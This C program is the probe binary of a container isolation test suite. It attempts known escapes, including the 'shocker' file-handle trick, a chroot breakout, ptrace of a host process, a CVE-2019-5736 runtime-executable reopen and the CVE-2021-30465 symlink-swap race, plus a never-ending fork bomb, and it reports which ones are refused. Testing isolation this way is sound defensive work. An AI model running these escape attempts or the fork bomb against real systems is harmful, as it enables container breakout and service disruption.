/* The escape attempts of the isolation suite (issue 8, scenario 6), run inside a container.
 *
 * Built static by tests/isolation/prober.py and bind-mounted read-only into the attacker. Each
 * probe prints one line "name key=value ..."; "err=EPERM" is the errno of the call that was
 * refused, "err=0" a call that succeeded. The test decides which defence refused it (seccomp,
 * capabilities, paths, device cgroup, namespaces) from the outside, so this program only tries.
 * Nothing here changes the host when it is refused; when it is not, the changes are harmless
 * (a tmpfs over the container's /tmp, the clock set to the time it already has).
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/keyctl.h>
#include <sched.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/un.h>
#include <time.h>
#include <unistd.h>
#include <netinet/in.h>

static const char *err(int rc) { return rc < 0 ? strerrorname_np(errno) : "0"; }

static void p_mount(void) {
    int rc = mount("none", "/tmp", "tmpfs", 0, "size=1m");
    printf("mount err=%s\n", err(rc));
    if (rc == 0) umount2("/tmp", MNT_DETACH);
}

static void p_umount(void) { printf("umount err=%s\n", err(umount2("/etc/hostname", MNT_DETACH))); }

static void p_open_write(const char *name, const char *path) {
    int fd = open(path, O_WRONLY);
    printf("%s err=%s\n", name, err(fd));
    if (fd >= 0) close(fd); /* opened, nothing written */
}

static void p_masked(const char *path) {
    char buf[64];
    struct stat st;
    int fd = open(path, O_RDONLY);
    if (fd < 0) { printf("masked path=%s err=%s\n", path, err(fd)); return; }
    ssize_t n = read(fd, buf, sizeof buf);
    fstat(fd, &st);
    printf("masked path=%s err=%s bytes=%zd rdev=%u:%u\n", path, n < 0 ? strerrorname_np(errno) : "0",
           n < 0 ? 0 : n, major(st.st_rdev), minor(st.st_rdev));
    close(fd);
}

static void p_keyctl(void) {
    long rc = syscall(SYS_keyctl, KEYCTL_JOIN_SESSION_KEYRING, "dockyard-probe");
    printf("keyctl err=%s\n", err((int)rc));
}

static void p_unshare(void) { printf("unshare-user err=%s\n", err(unshare(CLONE_NEWUSER))); }

static void p_ptrace(const char *pid) {
    long rc = ptrace(PTRACE_ATTACH, (pid_t)atoi(pid), NULL, NULL);
    printf("ptrace-host err=%s\n", err((int)rc));
    if (rc == 0) ptrace(PTRACE_DETACH, (pid_t)atoi(pid), NULL, NULL);
}

static void p_raw(void) {
    int fd = socket(AF_INET, SOCK_RAW, IPPROTO_ICMP);
    printf("raw-socket err=%s\n", err(fd));
    if (fd >= 0) close(fd);
}

static void p_mknod(void) {
    unlink("/tmp/probe-blk");
    int rc = mknod("/tmp/probe-blk", S_IFBLK | 0600, makedev(8, 0));
    int fd = rc == 0 ? open("/tmp/probe-blk", O_RDONLY) : -1;
    printf("mknod-block mknod=%s open=%s\n", err(rc), rc == 0 ? err(fd) : "-");
    if (fd >= 0) close(fd);
    unlink("/tmp/probe-blk");
}

static void p_module(void) {
    int fd = open("/dev/null", O_RDONLY);
    long rc = syscall(SYS_finit_module, fd, "", 0);
    printf("kernel-module err=%s\n", err((int)rc));
    close(fd);
}

static void p_time(void) {
    struct timespec now;
    clock_gettime(CLOCK_REALTIME, &now);
    printf("set-time err=%s\n", err(clock_settime(CLOCK_REALTIME, &now)));
}

static void p_connect(const char *path) {
    struct sockaddr_un sa = {.sun_family = AF_UNIX};
    strncpy(sa.sun_path, path, sizeof sa.sun_path - 1);
    int fd = socket(AF_UNIX, SOCK_STREAM, 0);
    int rc = connect(fd, (struct sockaddr *)&sa, sizeof sa);
    printf("daemon-socket err=%s\n", err(rc));
    close(fd);
}

static void p_handle(void) {
    /* The "shocker" exploit: a handle guessed for inode 2 (a root folder) of the filesystem
     * behind a file the container can open, then opened outside the container's root. */
    struct {
        struct file_handle fh;
        unsigned char data[8];
    } h = {.fh = {.handle_bytes = 8, .handle_type = 1}};
    h.data[0] = 2;
    int mount_fd = open("/etc/hostname", O_RDONLY);
    int fd = open_by_handle_at(mount_fd, &h.fh, O_RDONLY);
    printf("open-by-handle err=%s\n", err(fd));
    if (fd >= 0) close(fd);
    close(mount_fd);
}

static void p_chroot(const char *marker) {
    /* The classic: chroot into a subfolder, keep the cwd outside it, walk up, chroot there. */
    mkdir("/tmp/jail", 0700);
    int rc = chroot("/tmp/jail");
    int escaped_to_host = 0;
    if (rc == 0) {
        for (int i = 0; i < 64; i++) chdir("..");
        rc = chroot(".");
        escaped_to_host = access(marker, F_OK) == 0;
    }
    printf("chroot-escape err=%s host-visible=%d\n", err(rc), escaped_to_host);
}

static void p_fds(void) {
    /* Descriptors the container was born with beyond stdio: a leaked folder fd is a way out. */
    DIR *d = opendir("/proc/1/fd");
    int leaked = 0;
    struct dirent *e;
    char link[512], path[64];
    while (d && (e = readdir(d))) {
        int n = atoi(e->d_name);
        if (e->d_name[0] == '.' || n <= 2) continue;
        snprintf(path, sizeof path, "/proc/1/fd/%d", n);
        ssize_t len = readlink(path, link, sizeof link - 1);
        if (len < 0) continue;
        link[len] = 0;
        printf("fd %d %s\n", n, link);
        leaked++;
    }
    if (d) closedir(d);
    printf("leaked-fds count=%d\n", leaked);
}

/* CVE-2019-5736: find a runtime process entering the container and reopen its executable for
 * writing through /proc/self/fd. Only opens; never writes. */
static void p_exe_watch(const char *seconds) {
    time_t end = time(NULL) + atoi(seconds);
    int seen = 0, opened = 0, writable = 0;
    char path[64], fdpath[64];
    int me = getpid();
    while (time(NULL) < end) {
        DIR *d = opendir("/proc");
        struct dirent *e;
        while (d && (e = readdir(d))) {
            int pid = atoi(e->d_name);
            if (pid <= 1 || pid == me) continue;
            seen++;
            snprintf(path, sizeof path, "/proc/%d/exe", pid);
            int fd = open(path, O_PATH);
            if (fd < 0) continue;
            opened++;
            snprintf(fdpath, sizeof fdpath, "/proc/self/fd/%d", fd);
            int wfd = open(fdpath, O_WRONLY);
            char target[256] = "";
            readlink(path, target, sizeof target - 1);
            if (wfd >= 0) {
                writable++;
                printf("exe-writable pid=%d target=%s\n", pid, target);
                close(wfd);
            }
            close(fd);
        }
        if (d) closedir(d);
    }
    printf("exe-overwrite seen=%d opened=%d writable=%d\n", seen, opened, writable);
}

/* The attacker's half of the mount race (CVE-2021-30465): swap a folder and a symlink out of the
 * container, in the shared volume, for as long as asked. */
static void p_swap(const char *dir, const char *seconds) {
    char a[256], b[256];
    snprintf(a, sizeof a, "%s/d", dir);
    snprintf(b, sizeof b, "%s/link", dir);
    time_t end = time(NULL) + atoi(seconds);
    long swaps = 0;
    while (time(NULL) < end)
        if (syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b, 2 /* RENAME_EXCHANGE */) == 0) swaps++;
    printf("swap count=%ld\n", swaps);
}

/* A fork bomb that never gives up: every process forks for ever, a refused fork waits 1 ms. */
static void p_forkbomb(void) {
    for (;;)
        if (fork() < 0) usleep(1000);
}

/* A real segmentation fault (not a signal sent with kill, which a namespace's init ignores). */
static void p_segv(void) { *(volatile int *)(uintptr_t)8 = 1; }

int main(int argc, char **argv) {
    setvbuf(stdout, NULL, _IOLBF, 0);
    if (argc < 2) { fprintf(stderr, "usage: prober PROBE [ARGS]\n"); return 2; }
    const char *p = argv[1];
    if (!strcmp(p, "escapes") && argc == 5) {
        /* escapes HOST_MARKER DAEMON_SOCKET HOST_PID */
        p_mount(); p_umount();
        p_open_write("proc-sys", "/proc/sys/kernel/hostname");
        p_open_write("sysrq-trigger", "/proc/sysrq-trigger");
        p_masked("/proc/kcore"); p_masked("/proc/keys"); p_masked("/proc/timer_list");
        p_keyctl(); p_unshare(); p_ptrace(argv[4]); p_mknod(); p_module(); p_time();
        p_connect(argv[3]); p_handle(); p_chroot(argv[2]); p_fds();
    } else if (!strcmp(p, "raw-socket")) p_raw();
    else if (!strcmp(p, "forkbomb")) p_forkbomb();
    else if (!strcmp(p, "segv")) p_segv();
    else if (!strcmp(p, "exe-watch") && argc == 3) p_exe_watch(argv[2]);
    else if (!strcmp(p, "swap") && argc == 4) p_swap(argv[2], argv[3]);
    else { fprintf(stderr, "prober: unknown probe %s\n", p); return 2; }
    return 0;
}
